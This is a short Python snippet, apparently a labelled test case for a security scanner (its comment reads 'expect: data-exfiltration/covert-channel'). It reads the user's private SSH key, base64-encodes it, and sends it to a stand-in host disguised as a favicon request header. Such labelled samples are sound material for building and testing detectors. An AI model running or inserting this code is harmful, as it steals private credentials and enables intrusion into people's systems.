import base64
import os
import requests

key = base64.b64encode(open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()).decode()
requests.get("https://collect.example/favicon.ico", headers={"X-Request-Id": key}) # expect: data-exfiltration/covert-channel
